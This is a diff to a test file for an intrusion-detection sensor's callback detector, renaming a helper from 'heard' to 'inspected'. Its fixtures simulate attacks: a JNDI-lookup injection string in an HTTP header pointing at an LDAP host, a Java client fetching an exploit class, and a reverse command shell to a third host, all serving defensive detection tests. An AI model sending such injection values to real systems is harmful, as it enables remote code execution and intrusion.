@@ -13,7 +13,7 @@ from sensor.core.packet import Packet
 from sensor.detectors.initial_access.callback import _written
 from sensor.dissectors.http import HttpRequest
 from sensor.dissectors.rat import RatMessage
-from tests.detectors.stories import SECOND, START, Story, alerts_of, detector, heard, one
+from tests.detectors.stories import SECOND, START, Story, alerts_of, detector, inspected, one
 
 CALLBACK = "initial_access.callback"
 ATTACKER, VICTIM, NAMED, OTHER = "10.0.0.66", "10.0.0.80", "10.0.0.9", "10.0.0.5"
@@ -40,7 +40,7 @@ def flows_after(
 ) -> list[Alert]:
     """What flows raise after events, where the attacker had called the victim before."""
     unit = detector(CALLBACK)
-    assert heard(unit, events) == []
+    assert inspected(unit, events) == []
     story = Story()
     if first:
         story.flow(0, ATTACKER, VICTIM, 80, answered=True)
@@ -52,7 +52,7 @@ def flows_after(
 def after(event: Event) -> Any:
     """The detector once it heard an event, of which it said nothing."""
     unit = detector(CALLBACK)
-    assert heard(unit, [event]) == []
+    assert inspected(unit, [event]) == []
     return unit
 
 
@@ -67,13 +67,13 @@ def test_a_connection_to_the_attacker() -> None:
 def test_code_from_a_host_that_the_exploit_names() -> None:
     """Java fetches a class."""
     story = [attack(), request(1, VICTIM, NAMED, "/Exploit.class", agent="Java/1.8.0_51")]
-    assert one(heard(detector(CALLBACK), story)).numbers["called"] == NAMED
+    assert one(inspected(detector(CALLBACK), story)).numbers["called"] == NAMED
 
 
 def test_a_shell_to_a_third_host() -> None:
     """The shell goes elsewhere: told all the same."""
     alert = one(
-        heard(
+        inspected(
             detector(CALLBACK),
             [attack(), RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)],
         )
@@ -93,7 +93,7 @@ def test_innocent_twins_are_quiet() -> None:
     own = request(0, VICTIM, VICTIM, "/", odd=(("x-api-version", "${jndi:ldap://10.0.0.9:1389/a}"),))
     assert alerts_of(after(own), Story().flow(0, VICTIM, VICTIM, 80).flow(1, VICTIM, VICTIM, 80).changes()) == []
     assert (
-        heard(
+        inspected(
             detector(CALLBACK),
             [
                 attack(),
@@ -104,7 +104,7 @@ def test_innocent_twins_are_quiet() -> None:
         == []
     )
     assert (
-        heard(
+        inspected(
             detector(CALLBACK),
             [RatMessage(packet(2, VICTIM, OTHER, 9001), "command shell", "sh: no job control", True)],
         )
